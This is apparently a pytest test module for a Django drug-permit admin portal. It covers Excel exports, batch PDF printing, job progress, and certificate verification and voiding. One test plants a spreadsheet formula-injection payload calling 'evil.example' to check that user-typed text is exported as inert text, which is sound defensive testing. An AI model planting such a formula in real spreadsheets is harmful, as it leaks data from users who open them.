"""Excel exports, batch-print jobs with progress, and public verification."""

import datetime
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from documents import jobs, services
from documents.models import DocumentJob, PrintRecord
from portal.drug_permits.models import DrugPermitStatus
from workflows import services as workflow

from ..conftest import client_for
from ..drug_permit_helpers import complete_draft, decide_all, line


def workbook(response):
    assert response.status_code == 200, response.status_code
    data = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.django_db
def test_application_export_selected_or_all_with_types(chain, owner, authority):
    first = decide_all(owner, chain, authority)
    second = complete_draft(owner, authority)
    workflow.add_line(filing=second, actor=owner, values=line(quantity="250.5"))
    workflow.submit(filing=second, actor=owner, second_factor_verified=True)
    complete_draft(owner, authority)  # a draft: never exported to the authority
    client = client_for(chain[1])

    sheet = workbook(client.post("/admin/drug-permit/query/", {}))
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("申请单号", "进出口", "状态", "申请单位")
    assert len(rows) == 3
    by_number = {row[0]: row for row in rows[1:]}
    with translation.override("zh-hans"):
        assert by_number[first.number][2] == str(DrugPermitStatus.APPROVED.label)
    assert by_number[second.number][10] == 1250.5, "quantities are numbers, summed over lines"
    assert isinstance(by_number[second.number][13], datetime.datetime)
    assert by_number[first.number][14] == first.certificate.number
    assert by_number[first.number][1] == "进口"

    selected = workbook(client.post("/admin/drug-permit/query/", {"selected": [second.number]}))
    assert [row[0] for row in selected.iter_rows(min_row=2, values_only=True)] == [second.number]

    filtered = workbook(client.post("/admin/drug-permit/query/", {"status": "APPROVED"}))
    assert [row[0] for row in filtered.iter_rows(min_row=2, values_only=True)] == [first.number]

    foreign = workbook(client_for(chain["other-l1"]).post("/admin/drug-permit/query/", {}))
    assert foreign.max_row == 1, "another authority exports nothing of ours"


@pytest.mark.django_db
def test_certificate_statistics_export(chain, owner, authority):
    application = decide_all(owner, chain, authority)
    client = client_for(chain[4])
    sheet = workbook(client.post("/admin/drug-permit/certificates/", {"action": "export"}))
    header, row = list(sheet.iter_rows(values_only=True))
    assert header[0] == "准许证号" and "有效期至" in header
    assert row[0] == application.certificate.number
    assert row[header.index("数量")] == 1000
    assert row[header.index("发证日期")] == datetime.datetime.combine(
        application.certificate.issue_date, datetime.time()
    )
    date_cell = sheet.cell(row=2, column=header.index("有效期至") + 1)
    assert date_cell.is_date


@pytest.mark.django_db
def test_large_export_runs_as_a_job_with_progress(
    chain, owner, authority, monkeypatch, django_capture_on_commit_callbacks
):
    for _ in range(3):
        decide_all(owner, chain, authority)
    monkeypatch.setattr(jobs, "INLINE_EXPORT_ROWS", 2)
    client = client_for(chain[1])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/admin/drug-permit/certificates/", {"action": "export"})
    job = DocumentJob.objects.get()
    assert response.status_code == 302 and response.url == f"/admin/jobs/{job.pk}/"
    assert "<progress" in client.get(response.url).content.decode()
    status = client.get(f"/admin/jobs/{job.pk}/status/").json()
    assert status["state"] == "DONE" and status["percent"] == 100 and status["done"] == 3
    sheet = workbook(client.get(status["download"]))
    assert sheet.max_row == 4
    # Jobs are their owner's alone.
    other = client_for(chain[2])
    assert other.get(f"/admin/jobs/{job.pk}/").status_code == 404
    assert other.get(status["download"]).status_code == 404


@pytest.mark.django_db
def test_batch_print_of_notices_is_one_pdf_and_recorded(
    chain, owner, authority, django_capture_on_commit_callbacks
):
    notices = [decide_all(owner, chain, authority).notices.get() for _ in range(2)]
    client = client_for(chain[2])
    assert "京药监受" in client.get("/admin/drug-permit/notices/").content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/admin/drug-permit/notices/", {"selected": [n.pk for n in notices]})
    job = DocumentJob.objects.get()
    assert response.url == f"/admin/jobs/{job.pk}/"
    status = client.get(f"/admin/jobs/{job.pk}/status/").json()
    data = b"".join(client.get(status["download"]).streaming_content)
    assert len(PdfReader(io.BytesIO(data)).pages) == 2
    assert PrintRecord.objects.filter(kind=PrintRecord.Kind.NOTICE).count() == 2
    nothing = client.post("/admin/drug-permit/notices/", {})
    assert nothing.status_code == 302 and DocumentJob.objects.count() == 1


@pytest.mark.django_db
def test_verification_page_current_void_and_unknown(chain, owner, authority, client):
    application = decide_all(owner, chain, authority)
    certificate = application.certificate
    code = services.code_for(certificate).code
    page = client.get(f"/verify/{code}/")
    body = page.content.decode()
    assert page.status_code == 200
    assert certificate.number in body and "真实有效" in body
    assert application.enterprise.uscc not in body, "nothing the certificate does not show"
    assert "重组人胰岛素" in body
    assert "准予许可" not in body
    # Typed from paper: hyphens, lower case and a misread O are fine.
    typed = services.format_code(code).lower().replace("0", "o")
    assert client.get("/verify/", {"code": typed}).url == f"/verify/{code.replace('O', '0')}/"

    page_for_notice = client.get(f"/verify/{services.code_for(application.notices.get()).code}/")
    assert "受理通知书" in page_for_notice.content.decode()

    staff = client_for(chain[4])
    bad = staff.post(f"/admin/drug-permit/certificates/{certificate.number}/void/", {"reason": " "})
    assert bad.status_code == 200 and "请填写作废原因" in bad.content.decode()
    staff.post(
        f"/admin/drug-permit/certificates/{certificate.number}/void/", {"reason": "企业申请注销"}
    )
    certificate.refresh_from_db()
    assert certificate.status == "VOID"
    application.refresh_from_db()
    assert application.status == "VOID"
    body = client.get(f"/verify/{code}/").content.decode()
    assert "已作废" in body and "真实有效" not in body

    unknown = client.get("/verify/ZZZZZZZZZZZZ/")
    assert unknown.status_code == 404 and "未找到" in unknown.content.decode()


@pytest.mark.django_db
def test_text_that_looks_like_a_formula_is_exported_as_text(chain, owner, authority):
    """What users typed (here the enterprise's name) never runs as a formula in Excel."""
    application = complete_draft(owner, authority)
    workflow.submit(filing=application, actor=owner, second_factor_verified=True)
    typed = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    enterprise = application.enterprise
    type(enterprise).objects.filter(pk=enterprise.pk).update(name_zh=typed)
    sheet = workbook(client_for(chain[1]).post("/admin/drug-permit/query/", {}))
    cell = sheet.cell(row=2, column=4)
    assert cell.value == typed and cell.data_type == "s"
